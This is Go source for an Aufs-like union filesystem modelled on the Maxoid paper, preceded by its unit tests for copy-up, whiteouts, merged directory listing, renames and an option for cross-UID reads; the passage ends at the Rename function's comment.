	if err := vfs.WriteFile(disk, vfs.Root, "/lower/log", []byte("head-"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := vfs.AppendFile(u, vfs.Root, "/log", []byte("tail"), 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := vfs.ReadFile(u, vfs.Root, "/log")
	if err != nil || string(got) != "head-tail" {
		t.Errorf("append result = %q, %v", got, err)
	}
	low, _ := vfs.ReadFile(disk, vfs.Root, "/lower/log")
	if string(low) != "head-" {
		t.Errorf("lower mutated: %q", low)
	}
}

func TestCopyUpInNestedDir(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := disk.MkdirAll(vfs.Root, "/lower/a/b", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/a/b/f", []byte("v1"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(u, vfs.Root, "/a/b/f", []byte("v2"), 0o644); err != nil {
		t.Fatal(err)
	}
	up, err := vfs.ReadFile(disk, vfs.Root, "/upper/a/b/f")
	if err != nil || string(up) != "v2" {
		t.Errorf("nested copy-up = %q, %v", up, err)
	}
}

func TestWhiteoutOnDelete(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := u.Remove(vfs.Root, "/f"); err != nil {
		t.Fatal(err)
	}
	if vfs.Exists(u, vfs.Root, "/f") {
		t.Error("file still visible after delete")
	}
	if !vfs.Exists(disk, vfs.Root, "/upper/.wh.f") {
		t.Error("no whiteout created in writable branch")
	}
	if !vfs.Exists(disk, vfs.Root, "/lower/f") {
		t.Error("delete mutated the read-only branch")
	}
	// Recreate after delete: whiteout must be cleared.
	if err := vfs.WriteFile(u, vfs.Root, "/f", []byte("y"), 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := vfs.ReadFile(u, vfs.Root, "/f")
	if err != nil || string(got) != "y" {
		t.Errorf("recreate after delete = %q, %v", got, err)
	}
}

func TestDeleteUpperRevealsNothingWhenWhiteouted(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", []byte("low"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Modify (copy-up), then delete: lower copy must NOT reappear.
	if err := vfs.WriteFile(u, vfs.Root, "/f", []byte("up"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := u.Remove(vfs.Root, "/f"); err != nil {
		t.Fatal(err)
	}
	if vfs.Exists(u, vfs.Root, "/f") {
		t.Error("lower copy reappeared after deleting upper copy")
	}
}

func TestReadDirMerges(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/a", []byte("1"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/b", []byte("2"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/upper/b", []byte("2up"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/upper/c", []byte("3"), 0o644); err != nil {
		t.Fatal(err)
	}
	entries, err := u.ReadDir(vfs.Root, "/")
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name)
	}
	want := []string{"a", "b", "c"}
	if len(names) != len(want) {
		t.Fatalf("ReadDir = %v, want %v", names, want)
	}
	for i := range want {
		if names[i] != want[i] {
			t.Fatalf("ReadDir = %v, want %v", names, want)
		}
	}
}

func TestReadDirHidesWhiteoutsAndWhiteoutedEntries(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/gone", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/kept", []byte("y"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := u.Remove(vfs.Root, "/gone"); err != nil {
		t.Fatal(err)
	}
	entries, err := u.ReadDir(vfs.Root, "/")
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 1 || entries[0].Name != "kept" {
		t.Errorf("ReadDir = %v, want only 'kept'", entries)
	}
}

func TestWhiteoutedDirHidesChildren(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := disk.MkdirAll(vfs.Root, "/lower/d", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/d/child", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Whiteout the directory itself (as RemoveAll would).
	if err := u.RemoveAll(vfs.Root, "/d"); err != nil {
		t.Fatal(err)
	}
	if vfs.Exists(u, vfs.Root, "/d/child") {
		t.Error("child of whiteouted dir still visible")
	}
	if vfs.Exists(u, vfs.Root, "/d") {
		t.Error("whiteouted dir still visible")
	}
}

func TestRename(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/src", []byte("data"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := u.Rename(vfs.Root, "/src", "/dst"); err != nil {
		t.Fatal(err)
	}
	if vfs.Exists(u, vfs.Root, "/src") {
		t.Error("src visible after rename")
	}
	got, err := vfs.ReadFile(u, vfs.Root, "/dst")
	if err != nil || string(got) != "data" {
		t.Errorf("dst = %q, %v", got, err)
	}
	if !vfs.Exists(disk, vfs.Root, "/lower/src") {
		t.Error("rename mutated read-only branch")
	}
}

func TestReadOnlyUnion(t *testing.T) {
	disk := vfs.New()
	if err := disk.MkdirAll(vfs.Root, "/ro", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/ro/f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	u, err := New(Options{}, Branch{FS: vfs.Sub(disk, "/ro")})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := vfs.ReadFile(u, vfs.Root, "/f"); err != nil {
		t.Errorf("read from ro union: %v", err)
	}
	if err := vfs.WriteFile(u, vfs.Root, "/f", []byte("y"), 0o644); !errors.Is(err, vfs.ErrReadOnly) {
		t.Errorf("write to ro union: %v, want ErrReadOnly", err)
	}
}

func TestWritableBranchMustBeFirst(t *testing.T) {
	disk := vfs.New()
	_, err := New(Options{},
		Branch{FS: vfs.Sub(disk, "/a")},
		Branch{FS: vfs.Sub(disk, "/b"), Writable: true},
	)
	if err == nil {
		t.Error("expected error for writable branch not first")
	}
	if _, err := New(Options{}); err == nil {
		t.Error("expected error for empty branch list")
	}
}

func TestAllowAllReadsCrossUID(t *testing.T) {
	disk := vfs.New()
	initiator := vfs.Cred{UID: 100}
	delegate := vfs.Cred{UID: 200}
	if err := disk.MkdirAll(vfs.Root, "/privA", 0o700); err != nil {
		t.Fatal(err)
	}
	if err := disk.Chown(vfs.Root, "/privA", initiator.UID); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, initiator, "/privA/secret", []byte("s3cret"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := disk.MkdirAll(vfs.Root, "/tmpA", 0o777); err != nil {
		t.Fatal(err)
	}

	// Without AllowAllReads the delegate is denied.
	strict, err := New(Options{},
		Branch{FS: vfs.Sub(disk, "/tmpA"), Writable: true},
		Branch{FS: vfs.Sub(disk, "/privA")},
	)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := vfs.ReadFile(strict, delegate, "/secret"); !errors.Is(err, vfs.ErrPermission) {
		t.Errorf("strict union read: %v, want ErrPermission", err)
	}

	// With the paper's modified-Aufs behavior the read succeeds.
	relaxed, err := New(Options{AllowAllReads: true, AllowAllWrites: true},
		Branch{FS: vfs.Sub(disk, "/tmpA"), Writable: true},
		Branch{FS: vfs.Sub(disk, "/privA")},
	)
	if err != nil {
		t.Fatal(err)
	}
	got, err := vfs.ReadFile(relaxed, delegate, "/secret")
	if err != nil || string(got) != "s3cret" {
		t.Errorf("relaxed union read = %q, %v", got, err)
	}
	// And writes land in the volatile branch only.
	if err := vfs.WriteFile(relaxed, delegate, "/secret", []byte("mod"), 0o600); err != nil {
		t.Fatal(err)
	}
	orig, _ := vfs.ReadFile(disk, initiator, "/privA/secret")
	if string(orig) != "s3cret" {
		t.Errorf("initiator private file mutated: %q", orig)
	}
	vol, err := vfs.ReadFile(disk, vfs.Root, "/tmpA/secret")
	if err != nil || string(vol) != "mod" {
		t.Errorf("volatile copy = %q, %v", vol, err)
	}
}

func TestMkdirAllAcrossBranches(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := disk.MkdirAll(vfs.Root, "/lower/x/y", 0o755); err != nil {
		t.Fatal(err)
	}
	// /x/y exists in lower; extending it with /z lands in upper.
	if err := u.MkdirAll(vfs.Root, "/x/y/z", 0o755); err != nil {
		t.Fatal(err)
	}
	if !vfs.Exists(disk, vfs.Root, "/upper/x/y/z") {
		t.Error("new dir not in writable branch")
	}
	if vfs.Exists(disk, vfs.Root, "/lower/x/y/z") {
		t.Error("mkdir leaked into read-only branch")
	}
	info, err := u.Stat(vfs.Root, "/x/y/z")
	if err != nil || !info.IsDir() {
		t.Errorf("merged stat = %+v, %v", info, err)
	}
}

func TestStatPrefersUpper(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", bytes.Repeat([]byte("a"), 10), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(disk, vfs.Root, "/upper/f", bytes.Repeat([]byte("b"), 20), 0o644); err != nil {
		t.Fatal(err)
	}
	info, err := u.Stat(vfs.Root, "/f")
	if err != nil || info.Size != 20 {
		t.Errorf("Stat = %+v, %v; want size 20", info, err)
	}
}

func TestOpenExclusiveOnLowerFile(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := u.Open(vfs.Root, "/f", vfs.O_WRONLY|vfs.O_CREATE|vfs.O_EXCL, 0o644); !errors.Is(err, vfs.ErrExist) {
		t.Errorf("O_EXCL over lower file: %v, want ErrExist", err)
	}
}

func TestTruncOpenSkipsDataCopy(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/big", bytes.Repeat([]byte("z"), 1<<20), 0o644); err != nil {
		t.Fatal(err)
	}
	h, err := u.Open(vfs.Root, "/big", vfs.O_WRONLY|vfs.O_TRUNC, 0)
	if err != nil {
		t.Fatal(err)
	}
	h.Close()
	info, err := u.Stat(vfs.Root, "/big")
	if err != nil || info.Size != 0 {
		t.Errorf("size after O_TRUNC = %d, %v", info.Size, err)
	}
}

// TestRenameOntoWhiteoutedName checks that renaming a file onto a name
// whose lower-branch copy was previously Removed revives the name with
// the renamed content: the upper copy shadows the stale whiteout, and
// the old lower content never resurfaces.
func TestRenameOntoWhiteoutedName(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	for name, data := range map[string]string{"/lower/a": "old-a", "/lower/b": "b-data"} {
		if err := vfs.WriteFile(disk, vfs.Root, name, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := u.Remove(vfs.Root, "/a"); err != nil {
		t.Fatal(err)
	}
	if vfs.Exists(u, vfs.Root, "/a") {
		t.Fatal("/a visible after remove")
	}
	if err := u.Rename(vfs.Root, "/b", "/a"); err != nil {
		t.Fatal(err)
	}
	got, err := vfs.ReadFile(u, vfs.Root, "/a")
	if err != nil || string(got) != "b-data" {
		t.Errorf("revived /a = %q, %v; want renamed content, not lower original", got, err)
	}
	if vfs.Exists(u, vfs.Root, "/b") {
		t.Error("/b still visible after rename away")
	}
}

// TestRemoveRenamedTarget checks the other direction of the interplay:
// after a rename revives a whiteouted name, Removing it must hide it
// again — deleting the upper copy may not let the stale lower copy
// show through.
func TestRemoveRenamedTarget(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	for name, data := range map[string]string{"/lower/a": "old-a", "/lower/b": "b-data"} {
		if err := vfs.WriteFile(disk, vfs.Root, name, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := u.Rename(vfs.Root, "/b", "/a"); err != nil {
		t.Fatal(err)
	}
	if err := u.Remove(vfs.Root, "/a"); err != nil {
		t.Fatal(err)
	}
	if vfs.Exists(u, vfs.Root, "/a") {
		data, _ := vfs.ReadFile(u, vfs.Root, "/a")
		t.Errorf("/a visible after remove (content %q): lower copy resurfaced", data)
	}
	names, err := u.ReadDir(vfs.Root, "/")
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range names {
		if e.Name == "a" || e.Name == "b" {
			t.Errorf("ReadDir still lists %q", e.Name)
		}
	}
}

// TestRenameChainLeavesCleanView walks a rename chain a -> b -> a over
// a lower-branch original and checks the merged view and directory
// listing stay consistent: exactly one name visible, final content
// preserved, no whiteout or staging artifacts listed.
func TestRenameChainLeavesCleanView(t *testing.T) {
	disk, u := newTestUnion(t, Options{})
	if err := vfs.WriteFile(disk, vfs.Root, "/lower/a", []byte("v0"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := u.Rename(vfs.Root, "/a", "/b"); err != nil {
		t.Fatal(err)
	}
	if err := u.Rename(vfs.Root, "/b", "/a"); err != nil {
		t.Fatal(err)
	}
	got, err := vfs.ReadFile(u, vfs.Root, "/a")
	if err != nil || string(got) != "v0" {
		t.Errorf("/a after chain = %q, %v", got, err)
	}
	if vfs.Exists(u, vfs.Root, "/b") {
		t.Error("/b visible after rename chain")
	}
	names, err := u.ReadDir(vfs.Root, "/")
	if err != nil {
		t.Fatal(err)
	}
	if len(names) != 1 || names[0].Name != "a" {
		list := make([]string, len(names))
		for i, e := range names {
			list[i] = e.Name
		}
		t.Errorf("ReadDir = %v, want [a]", list)
	}
}
