// Package unionfs implements an Aufs-like union filesystem over vfs
// branches.
//
// A Union presents a merged view of an ordered list of branches
// (directories in an underlying filesystem). The first branch is the
// only writable one; all writes are confined to it. Modifying a file
// that exists only in a lower (read-only) branch first copies it up to
// the writable branch ("copy-up"), which is the mechanism behind
// Maxoid's per-file copy-on-write (§4.2 of the paper). Deleting a file
// that exists in a lower branch creates a whiteout entry in the
// writable branch so the lower file is hidden from the merged view.
//
// Maxoid's modification to Aufs — "always allow read access", so a
// delegate with a different UID can read its initiator's private files
// through the mount — is modeled by the AllowAllReads option. Security
// then rests on the mount only being set up by trusted code (Zygote)
// in contexts where that read is safe, exactly as in the paper.
package unionfs

import (
	"errors"
	"io/fs"
	"path"
	"sort"
	"strings"
	"sync/atomic"

	"maxoid/internal/fault"
	"maxoid/internal/vfs"
)

// Fault points on the union's two multi-step transitions. Both paths
// are structured so an injected failure leaves the merged view either
// fully-old or fully-new, never mixed — the crash-consistency
// invariant internal/chaos checks.
var (
	faultCopyUp   = fault.Declare("unionfs.copyup", "copy-up of a lower-branch file: fail before the staged copy is published")
	faultWhiteout = fault.Declare("unionfs.whiteout", "whiteout creation on Remove: fail before the lower branches are hidden")
)

// whPrefix marks whiteout entries in the writable branch, following the
// Aufs on-disk convention.
const whPrefix = ".wh."

// Branch is one layer of a union.
type Branch struct {
	// FS is the branch content, typically vfs.Sub(disk, dir).
	FS vfs.FileSystem
	// Writable marks the single top-priority writable branch.
	Writable bool
}

// Options configure union-level permission behavior.
type Options struct {
	// AllowAllReads bypasses per-file read permission checks — the
	// paper's modified-Aufs behavior used for exposing an initiator's
	// private files to its delegates.
	AllowAllReads bool
	// AllowAllWrites bypasses per-file write permission checks. Writes
	// remain confined to the writable branch, which is the actual
	// security boundary for delegate mounts.
	AllowAllWrites bool
}

// Live-union accounting: every New adds the union and its branch count
// to process-wide counters, Close removes them. The lifecycle chaos
// engine and churn tests compare these against a baseline to prove
// that process death detaches every union branch the fork attached.
var (
	liveUnions   atomic.Int64
	liveBranches atomic.Int64
)

// Live returns the number of unions created and not yet closed.
func Live() int64 { return liveUnions.Load() }

// LiveBranches returns the number of branches attached to live unions.
func LiveBranches() int64 { return liveBranches.Load() }

// Union is the merged filesystem. It implements vfs.FileSystem.
type Union struct {
	branches []Branch
	opts     Options
	closed   atomic.Bool
}

// New builds a union from branches ordered highest-priority first. At
// most one branch may be writable and it must be the first; a union
// with no writable branch is read-only.
func New(opts Options, branches ...Branch) (*Union, error) {
	if len(branches) == 0 {
		return nil, errors.New("unionfs: need at least one branch")
	}
	for i, b := range branches {
		if b.Writable && i != 0 {
			return nil, errors.New("unionfs: writable branch must be first")
		}
		if b.FS == nil {
			return nil, errors.New("unionfs: nil branch filesystem")
		}
	}
	liveUnions.Add(1)
	liveBranches.Add(int64(len(branches)))
	return &Union{branches: branches, opts: opts}, nil
}

// Close detaches the union's branches from the live accounting. It is
// called by mount.Namespace.Close when the owning process dies, and is
// idempotent. The backing branch directories themselves persist on
// disk (they are the delegate's durable pPriv/nPriv state); only the
// attachment is released.
func (u *Union) Close() error {
	if u.closed.CompareAndSwap(false, true) {
		liveUnions.Add(-1)
		liveBranches.Add(-int64(len(u.branches)))
	}
	return nil
}

// Branches returns the branch list (for mount-table dumps, Table 2).
func (u *Union) Branches() []Branch { return u.branches }

func (u *Union) writable() (Branch, bool) {
	if u.branches[0].Writable {
		return u.branches[0], true
	}
	return Branch{}, false
}

// IsWhiteout reports whether a file name is a whiteout marker. Tools
// that walk backing branches directly (volatile-state listing, the
// state auditor) use it to skip union-internal entries.
func IsWhiteout(name string) bool {
	return strings.HasPrefix(path.Base(vfs.Clean(name)), whPrefix)
}

// whiteoutName returns the whiteout path for name.
func whiteoutName(name string) string {
	cleaned := vfs.Clean(name)
	i := strings.LastIndexByte(cleaned, '/')
	return cleaned[:i+1] + whPrefix + cleaned[i+1:]
}

// hasWhiteout reports whether branch b contains a whiteout for name.
func hasWhiteout(b Branch, name string) bool {
	return vfs.Exists(b.FS, vfs.Root, whiteoutName(name))
}

// hiddenAbove reports whether name (or any ancestor of it) is whiteouted
// in a branch strictly above index i.
func (u *Union) hiddenAbove(name string, i int) bool {
	cleaned := vfs.Clean(name)
	for j := 0; j < i; j++ {
		p := cleaned
		for p != "/" {
			if hasWhiteout(u.branches[j], p) {
				return true
			}
			p = path.Dir(p)
		}
	}
	return false
}

// resolve finds the highest-priority branch where name is visible.
func (u *Union) resolve(name string) (int, vfs.FileInfo, error) {
	cleaned := vfs.Clean(name)
	for i, b := range u.branches {
		if u.hiddenAbove(cleaned, i) {
			break
		}
		info, err := b.FS.Stat(vfs.Root, cleaned)
		if err == nil {
			return i, info, nil
		}
		if !errors.Is(err, vfs.ErrNotExist) {
			return 0, vfs.FileInfo{}, err
		}
		// A whiteout at this branch hides lower branches too.
		if hasWhiteout(b, cleaned) {
			break
		}
	}
	return 0, vfs.FileInfo{}, &fs.PathError{Op: "union", Path: cleaned, Err: vfs.ErrNotExist}
}

func (u *Union) checkRead(c vfs.Cred, info vfs.FileInfo) error {
	if u.opts.AllowAllReads || c.UID == 0 {
		return nil
	}
	bit := fs.FileMode(0o4)
	if c.UID == info.UID {
		if info.Mode.Perm()&(bit<<6) != 0 {
			return nil
		}
		return vfs.ErrPermission
	}
	if info.Mode.Perm()&bit != 0 {
		return nil
	}
	return vfs.ErrPermission
}

func (u *Union) checkWrite(c vfs.Cred, info vfs.FileInfo) error {
	if u.opts.AllowAllWrites || c.UID == 0 {
		return nil
	}
	bit := fs.FileMode(0o2)
	if c.UID == info.UID {
		if info.Mode.Perm()&(bit<<6) != 0 {
			return nil
		}
		return vfs.ErrPermission
	}
	if info.Mode.Perm()&bit != 0 {
		return nil
	}
	return vfs.ErrPermission
}

// ensureParent creates name's parent directories in the writable branch.
func ensureParent(b Branch, name string) error {
	dir := path.Dir(vfs.Clean(name))
	if dir == "/" {
		return nil
	}
	return b.FS.MkdirAll(vfs.Root, dir, 0o755)
}

// copyUpTempName returns the staging name copy-up writes into before
// publishing. The whPrefix makes it invisible to the merged view
// (ReadDir skips whiteout-prefixed entries and resolve never looks one
// up), so a torn staging write can never appear in the union.
func copyUpTempName(name string) string {
	cleaned := vfs.Clean(name)
	i := strings.LastIndexByte(cleaned, '/')
	return cleaned[:i+1] + whPrefix + ".cow." + cleaned[i+1:]
}

// copyUp copies the file at name from branch src into the writable
// branch, preserving content and mode. If truncate is set, an empty
// file is created instead (no data copy needed).
//
// The copy is crash-consistent: data is staged under a union-invisible
// temp name and published with a single atomic Rename. A failure at
// any step (including an injected one) leaves the merged view serving
// the lower-branch original unchanged — fully-old, never a partial
// copy.
func (u *Union) copyUp(name string, src int, info vfs.FileInfo, truncate bool) error {
	if err := fault.Hit(faultCopyUp); err != nil {
		return &fs.PathError{Op: "copyup", Path: name, Err: err}
	}
	w, ok := u.writable()
	if !ok {
		return vfs.ErrReadOnly
	}
	if err := ensureParent(w, name); err != nil {
		return err
	}
	var data []byte
	if !truncate {
		var err error
		data, err = vfs.ReadFile(u.branches[src].FS, vfs.Root, name)
		if err != nil {
			return err
		}
	}
	tmp := copyUpTempName(name)
	discard := func(err error) error {
		// Cleanup of an already-failed copy-up must not itself be
		// re-injected, or no rollback could ever be guaranteed.
		fault.Suspend()
		defer fault.Resume()
		_ = w.FS.Remove(vfs.Root, tmp)
		return err
	}
	if err := vfs.WriteFile(w.FS, vfs.Root, tmp, data, info.Mode.Perm()); err != nil {
		return discard(err)
	}
	// The copy keeps the original file's ownership, as Aufs does.
	if err := w.FS.Chown(vfs.Root, tmp, info.UID); err != nil {
		return discard(err)
	}
	if err := w.FS.Rename(vfs.Root, tmp, name); err != nil {
		return discard(err)
	}
	return nil
}

// Open opens name in the merged view with POSIX-like semantics.
func (u *Union) Open(c vfs.Cred, name string, flags int, perm fs.FileMode) (vfs.Handle, error) {
	wantWrite := flags&0x3 == vfs.O_WRONLY || flags&0x3 == vfs.O_RDWR
	wantRead := flags&0x3 == vfs.O_RDONLY || flags&0x3 == vfs.O_RDWR

	src, info, err := u.resolve(name)
	found := err == nil
	if err != nil && !errors.Is(err, vfs.ErrNotExist) {
		return nil, err
	}

	if found {
		if flags&vfs.O_CREATE != 0 && flags&vfs.O_EXCL != 0 {
			return nil, &fs.PathError{Op: "open", Path: name, Err: vfs.ErrExist}
		}
		if info.IsDir() {
			return nil, &fs.PathError{Op: "open", Path: name, Err: vfs.ErrIsDir}
		}
		if wantRead {
			if err := u.checkRead(c, info); err != nil {
				return nil, &fs.PathError{Op: "open", Path: name, Err: err}
			}
		}
		if !wantWrite {
			return u.branches[src].FS.Open(vfs.Root, name, flags, perm)
		}
		if err := u.checkWrite(c, info); err != nil {
			return nil, &fs.PathError{Op: "open", Path: name, Err: err}
		}
		w, ok := u.writable()
		if !ok {
			return nil, &fs.PathError{Op: "open", Path: name, Err: vfs.ErrReadOnly}
		}
		if src != 0 || !u.branches[0].Writable {
			// Copy-up into the writable branch, then operate there.
			if err := u.copyUp(name, src, info, flags&vfs.O_TRUNC != 0); err != nil {
				return nil, err
			}
		}
		return w.FS.Open(vfs.Root, name, flags, perm)
	}

	// Not found anywhere.
	if flags&vfs.O_CREATE == 0 {
		return nil, &fs.PathError{Op: "open", Path: name, Err: vfs.ErrNotExist}
	}
	w, ok := u.writable()
	if !ok {
		return nil, &fs.PathError{Op: "open", Path: name, Err: vfs.ErrReadOnly}
	}
	// Creating requires write access to the visible parent directory.
	if dirInfo, _, derr := u.statVisibleDir(path.Dir(vfs.Clean(name))); derr == nil {
		if err := u.checkWrite(c, dirInfo); err != nil {
			return nil, &fs.PathError{Op: "open", Path: name, Err: err}
		}
	} else {
		return nil, &fs.PathError{Op: "open", Path: name, Err: vfs.ErrNotExist}
	}
	if err := ensureParent(w, name); err != nil {
		return nil, err
	}
	// Remove any stale whiteout so the new file becomes visible.
	_ = w.FS.Remove(vfs.Root, whiteoutName(name))
	h, err := w.FS.Open(vfs.Root, name, flags, perm)
	if err != nil {
		return nil, err
	}
	// The created file belongs to the caller.
	_ = w.FS.Chown(vfs.Root, name, c.UID)
	return h, nil
}

// statVisibleDir resolves a directory in the merged view.
func (u *Union) statVisibleDir(dir string) (vfs.FileInfo, int, error) {
	i, info, err := u.resolve(dir)
	if err != nil {
		return vfs.FileInfo{}, 0, err
	}
	if !info.IsDir() {
		return vfs.FileInfo{}, 0, vfs.ErrNotDir
	}
	return info, i, nil
}

// Stat returns metadata for name in the merged view.
func (u *Union) Stat(c vfs.Cred, name string) (vfs.FileInfo, error) {
	_, info, err := u.resolve(name)
	return info, err
}

// ReadDir lists the merged directory, honoring whiteouts and hiding the
// whiteout entries themselves.
func (u *Union) ReadDir(c vfs.Cred, name string) ([]vfs.DirEntry, error) {
	cleaned := vfs.Clean(name)
	if _, _, err := u.statVisibleDir(cleaned); err != nil {
		return nil, err
	}
	seen := make(map[string]vfs.DirEntry)
	hidden := make(map[string]bool)
	anyBranchListed := false
	for i, b := range u.branches {
		if u.hiddenAbove(cleaned, i) {
			break
		}
		entries, err := b.FS.ReadDir(vfs.Root, cleaned)
		if errors.Is(err, vfs.ErrNotExist) {
			continue
		}
		if err != nil {
			return nil, err
		}
		anyBranchListed = true
		// First pass: real entries at this branch, hidden only by
		// whiteouts from strictly higher branches.
		for _, e := range entries {
			if strings.HasPrefix(e.Name, whPrefix) {
				continue
			}
			if hidden[e.Name] {
				continue
			}
			if _, ok := seen[e.Name]; !ok {
				seen[e.Name] = e
			}
		}
		// Second pass: whiteouts at this branch hide lower branches.
		for _, e := range entries {
			if strings.HasPrefix(e.Name, whPrefix) {
				hidden[strings.TrimPrefix(e.Name, whPrefix)] = true
			}
		}
	}
	if !anyBranchListed {
		return nil, &fs.PathError{Op: "readdir", Path: name, Err: vfs.ErrNotExist}
	}
	out := make([]vfs.DirEntry, 0, len(seen))
	for _, e := range seen {
		out = append(out, e)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out, nil
}

// Mkdir creates a directory in the writable branch.
func (u *Union) Mkdir(c vfs.Cred, name string, perm fs.FileMode) error {
	if _, _, err := u.resolve(name); err == nil {
		return &fs.PathError{Op: "mkdir", Path: name, Err: vfs.ErrExist}
	}
	w, ok := u.writable()
	if !ok {
		return vfs.ErrReadOnly
	}
	if dirInfo, _, derr := u.statVisibleDir(path.Dir(vfs.Clean(name))); derr == nil {
		if err := u.checkWrite(c, dirInfo); err != nil {
			return &fs.PathError{Op: "mkdir", Path: name, Err: err}
		}
	} else {
		return &fs.PathError{Op: "mkdir", Path: name, Err: vfs.ErrNotExist}
	}
	if err := ensureParent(w, name); err != nil {
		return err
	}
	_ = w.FS.Remove(vfs.Root, whiteoutName(name))
	if err := w.FS.Mkdir(vfs.Root, name, perm); err != nil {
		return err
	}
	return w.FS.Chown(vfs.Root, name, c.UID)
}

// MkdirAll creates name and missing parents in the writable branch.
func (u *Union) MkdirAll(c vfs.Cred, name string, perm fs.FileMode) error {
	cleaned := vfs.Clean(name)
	if cleaned == "/" {
		return nil
	}
	elems := strings.Split(cleaned[1:], "/")
	cur := "/"
	for _, elem := range elems {
		cur = path.Join(cur, elem)
		_, info, err := u.resolve(cur)
		if err == nil {
			if !info.IsDir() {
				return &fs.PathError{Op: "mkdir", Path: cur, Err: vfs.ErrNotDir}
			}
			continue
		}
		if err := u.Mkdir(c, cur, perm); err != nil && !errors.Is(err, vfs.ErrExist) {
			return err
		}
	}
	return nil
}

// Remove deletes name from the merged view. If the name exists in a
// lower branch, a whiteout is created so it stays hidden.
func (u *Union) Remove(c vfs.Cred, name string) error {
	src, info, err := u.resolve(name)
	if err != nil {
		return err
	}
	if err := u.checkWrite(c, info); err != nil {
		return &fs.PathError{Op: "remove", Path: name, Err: err}
	}
	w, ok := u.writable()
	if !ok {
		return vfs.ErrReadOnly
	}
	if info.IsDir() {
		entries, err := u.ReadDir(c, name)
		if err != nil {
			return err
		}
		if len(entries) > 0 {
			return &fs.PathError{Op: "remove", Path: name, Err: vfs.ErrNotEmpty}
		}
	}
	// Crash consistency: the whiteout is created *before* the writable
	// copy is deleted. A whiteout at a branch only hides lower branches
	// (resolve stats a branch's own file first), so while both exist
	// the merged view still serves the writable copy — fully-old. Once
	// the copy is gone the whiteout hides lower copies — fully-new. A
	// failure between the steps never resurrects the lower-branch file,
	// which the old delete-then-whiteout order allowed.
	if u.existsBelow(name, 1) {
		if err := ensureParent(w, name); err != nil {
			return err
		}
		if err := fault.Hit(faultWhiteout); err != nil {
			return &fs.PathError{Op: "whiteout", Path: name, Err: err}
		}
		if err := vfs.WriteFile(w.FS, vfs.Root, whiteoutName(name), nil, 0o600); err != nil {
			return err
		}
	}
	if src == 0 && u.branches[0].Writable {
		if info.IsDir() {
			if err := w.FS.RemoveAll(vfs.Root, name); err != nil {
				return err
			}
		} else if err := w.FS.Remove(vfs.Root, name); err != nil {
			return err
		}
	}
	return nil
}

// existsBelow reports whether name exists in any branch at or below idx.
func (u *Union) existsBelow(name string, idx int) bool {
	for i := idx; i < len(u.branches); i++ {
		if vfs.Exists(u.branches[i].FS, vfs.Root, name) {
			return true
		}
	}
	return false
}

// RemoveAll deletes the subtree rooted at name from the merged view.
func (u *Union) RemoveAll(c vfs.Cred, name string) error {
	_, info, err := u.resolve(name)
	if errors.Is(err, vfs.ErrNotExist) {
		return nil
	}
	if err != nil {
		return err
	}
	if info.IsDir() {
		entries, err := u.ReadDir(c, name)
		if err != nil {
			return err
		}
		for _, e := range entries {
			if err := u.RemoveAll(c, path.Join(vfs.Clean(name), e.Name)); err != nil {
				return err
			}
		}
	}
	return u.Remove(c, name)
}

// Rename moves oldname to newname within the merged view. It is
// implemented as copy + delete, which matches Aufs behavior when the
// source lives in a read-only branch.
